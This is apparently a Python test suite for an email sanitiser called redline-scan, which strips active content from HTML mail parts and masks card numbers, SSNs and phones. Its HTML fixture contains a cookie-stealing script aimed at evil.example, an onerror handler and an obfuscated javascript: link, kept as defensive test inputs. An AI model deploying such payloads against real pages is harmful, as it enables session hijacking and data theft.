#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""text/html parts through redline-scan, read back with Python's email
package: active content removed and findings masked in quoted-printable,
base64 and Latin-1 parts, every step in the report, other parts and clean
messages untouched byte for byte.

Usage: html_part_test.py REDLINE_SCAN
"""
import base64
import email
import email.policy
import json
import os
import quopri
import subprocess
import sys
import tempfile
import unittest

SCAN = None
CARD = "4111 1111 1111 1111"
HTML = ("<html><head><title>Statement</title></head><body>\n"
        "<p>Your card: " + CARD + " was charged.</p>\n"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>\n"
        "<img src=\"logo.png\" onerror=\"alert(1)\" alt=\"logo\">\n"
        "<a href=\"jav&#x09;ascript:alert(2)\">click</a>\n"
        "<iframe src=\"https://evil.example/\"></iframe>\n"
        "<p>Kind regards,<br>Anna</p></body></html>\n")


def message(parts, boundary="b1"):
    """An RFC 5322 message, multipart/alternative when there are several parts."""
    head = "From: a@example.com\r\nTo: b@example.com\r\nSubject: html\r\nMIME-Version: 1.0\r\n"
    if len(parts) == 1:
        return (head + parts[0]).encode("latin-1")
    body = head + 'Content-Type: multipart/alternative; boundary="%s"\r\n\r\n' % boundary
    for p in parts:
        body += "--%s\r\n%s\r\n" % (boundary, p)
    return (body + "--%s--\r\n" % boundary).encode("latin-1")


def part(ctype, cte, payload):
    if cte == "base64":
        enc = base64.encodebytes(payload).decode().replace("\n", "\r\n")
    elif cte == "quoted-printable":
        enc = quopri.encodestring(payload).decode().replace("\n", "\r\n")
    else:
        enc = payload.decode("latin-1").replace("\n", "\r\n")
    return "Content-Type: %s\r\nContent-Transfer-Encoding: %s\r\n\r\n%s" % (ctype, cte, enc)


def scan(data, policy=None):
    with tempfile.TemporaryDirectory() as d:
        src, out, rep = (os.path.join(d, n) for n in ("in.eml", "out.eml", "r.json"))
        with open(src, "wb") as f:
            f.write(data)
        args = [SCAN, "--report", rep, "-o", out]
        if policy is not None:
            pol = os.path.join(d, "p.json")
            with open(pol, "w") as f:
                json.dump(policy, f)
            args += ["--policy", pol]
        r = subprocess.run(args + [src], capture_output=True, timeout=60)
        if r.returncode != 0:
            raise AssertionError("redline-scan exit %d: %s" % (r.returncode, r.stderr))
        with open(out, "rb") as f, open(rep) as g:
            return f.read(), json.load(g)


def html_of(out):
    msg = email.message_from_bytes(out, policy=email.policy.compat32)
    for p in msg.walk():
        if p.get_content_type() == "text/html":
            cs = p.get_content_charset() or "utf-8"
            return p.get_payload(decode=True).decode(cs), p
    raise AssertionError("no text/html part in the output")


class HtmlParts(unittest.TestCase):
    def check_sanitised(self, out, report, path):
        html, _ = html_of(out)
        self.assertNotIn("<script", html.lower())
        self.assertNotIn("onerror", html)
        self.assertNotIn("ascript:", html)
        self.assertNotIn("<iframe", html)
        self.assertNotIn(CARD, html)
        self.assertIn("**** **** **** 1111", html)
        self.assertIn('<img src="logo.png"  alt="logo">', html)  # the rest kept as it was
        self.assertIn("<p>Kind regards,<br>Anna</p>", html)
        actions = {(a["part"], a["action"]) for a in report["actions"]}
        for a in ("html.script_removed", "html.handler_removed", "html.url_neutralised",
                  "html.element_removed"):
            self.assertIn((path, a), actions)
        cards = [f for f in report["findings"] if f["type"] == "CREDIT_CARD"]
        self.assertEqual([(f["part"], f["action"]) for f in cards], [(path, "redact")])
        self.assertEqual(report["verdict"], "deliver")
        self.assertEqual(report["defects"], [])
        return html

    def test_quoted_printable(self):
        data = message([part("text/html; charset=utf-8", "quoted-printable", HTML.encode())])
        out, report = scan(data)
        self.check_sanitised(out, report, "1")
        # Offsets are into the decoded part (CRLF lines here), like every finding.
        f = [f for f in report["findings"] if f["type"] == "CREDIT_CARD"][0]
        decoded = HTML.replace("\n", "\r\n").encode()
        self.assertEqual(decoded[f["start"]:f["end"]].decode(), CARD)

    def test_base64_beside_a_plain_part(self):
        plain = part("text/plain; charset=utf-8", "7bit", b"Hello, no secrets here.\n")
        data = message([plain, part("text/html; charset=utf-8", "base64", HTML.encode())])
        out, report = scan(data)
        self.check_sanitised(out, report, "2")
        self.assertIn(plain.encode(), out)  # the plain part byte for byte
        self.assertEqual(email.message_from_bytes(out).defects, [])

    def test_latin1(self):
        body = HTML.replace("Kind regards", "Caf\xe9 & r\xe9gards").encode("latin-1")
        data = message([part("text/html; charset=iso-8859-1", "quoted-printable", body)])
        out, report = scan(data)
        html, _ = html_of(out)
        self.assertIn("Caf\xe9 & r\xe9gards", html)
        self.assertNotIn("<script", html)
        self.assertIn("**** **** **** 1111", html)

    def test_forwarded_message_html_sanitised_and_reported(self):
        inner = message([part("text/html; charset=utf-8", "quoted-printable", HTML.encode())])
        data = message([part("text/plain", "7bit", b"forwarded, see attached\n"),
                        part("message/rfc822", "base64", inner)])
        out, report = scan(data)
        # The nested message stays base64; its bytes as rewritten:
        b64 = out.split(b"Content-Transfer-Encoding: base64\r\n\r\n", 1)[1].split(b"--b1--")[0]
        html, _ = html_of(base64.b64decode(b64))
        self.assertNotIn("<script", html)
        self.assertIn("**** **** **** 1111", html)
        # The nested message's steps are in the outer report, located inside it.
        acts = [a for a in report["actions"] if a["part"] == "2"]
        self.assertIn("html.script_removed", [a["action"] for a in acts])
        self.assertTrue(all(a["detail"].startswith("message/1: ") for a in acts), acts)

    def test_table_read_as_copied(self):
        """An HTML table as Outlook writes it (paragraphs in cells, indented
        markup) reads as a browser copies it: a tab between cells, a line
        between rows. The header names the bare numbers under it, as in a
        plain-text table, and a card typed into four cells is one."""
        html = ("<html><body><p>Hi team,</p>\n<table border=1>\n<thead>\n <tr>\n"
                "  <th>Name</th>\n  <th>SSN</th>\n  <th>Phone</th>\n </tr>\n</thead>\n"
                "<tbody>\n <tr>\n  <td><p class=MsoNormal>Jo Smith<o:p></o:p></p></td>\n"
                "  <td><p class=MsoNormal>536228471<o:p></o:p></p></td>\n"
                "  <td>\n    2125550132\n  </td>\n </tr>\n"
                " <tr><td>Al Jones</td><td>078051121</td><td>2125550199</td></tr>\n"
                "</tbody>\n</table>\n<table><tr><td>Card</td><td>4111</td><td>1111</td>"
                "<td>1111</td><td>1111</td></tr></table>\n"
                "<p>Order 12345678 shipped, ticket 536228471.</p></body></html>\n").encode()
        out, report = scan(message([part("text/html; charset=utf-8", "7bit", html)]))
        got, _ = html_of(out)
        for number in ("536228471", "2125550132", "078051121", "2125550199"):
            self.assertNotIn("<td>%s</td>" % number, got)
        self.assertIn("<td>Al Jones</td><td>*********</td><td>**********</td>", got)
        self.assertIn("<td>****</td><td>****</td><td>****</td><td>1111</td>", got)
        self.assertIn("Order 12345678 shipped, ticket 536228471.", got)  # no header there
        types = sorted(f["type"] for f in report["findings"])
        self.assertEqual(types, ["CREDIT_CARD", "PHONE", "PHONE", "US_SSN", "US_SSN"])

    def test_clean_message_is_byte_identical(self):
        clean = ("<html><body><p style=\"color:#333\">Dear Anna,&nbsp;see you at 10:30.</p>"
                 "<a href=\"https://example.com/?a=1&amp;b=2\">agenda</a></body></html>\n")
        for cte in ("quoted-printable", "base64", "8bit"):
            data = message([part("text/html; charset=utf-8", cte, clean.encode())])
            out, report = scan(data)
            self.assertEqual(out, data, cte)
            self.assertEqual(report["actions"], [])
            self.assertFalse(report["modified"])

    def test_policy_keeps_iframes(self):
        data = message([part("text/html; charset=utf-8", "quoted-printable", HTML.encode())])
        out, report = scan(data, {"version": "keep-iframes", "html": {"iframes": "keep"}})
        html, _ = html_of(out)
        self.assertIn('<iframe src="https://evil.example/"></iframe>', html)
        self.assertNotIn("<script", html)
        self.assertNotIn("html.element_removed", {a["action"] for a in report["actions"]})

    def test_policy_error_names_the_field(self):
        with tempfile.TemporaryDirectory() as d:
            pol = os.path.join(d, "p.json")
            with open(pol, "w") as f:
                json.dump({"version": "x", "html": {"iframes": "maybe"}}, f)
            r = subprocess.run([SCAN, "--policy", pol, os.devnull], capture_output=True,
                               timeout=60)
            self.assertEqual(r.returncode, 2)
            self.assertIn(b"html.iframes", r.stderr)


if __name__ == "__main__":
    SCAN = sys.argv.pop(1)
    unittest.main(verbosity=2)
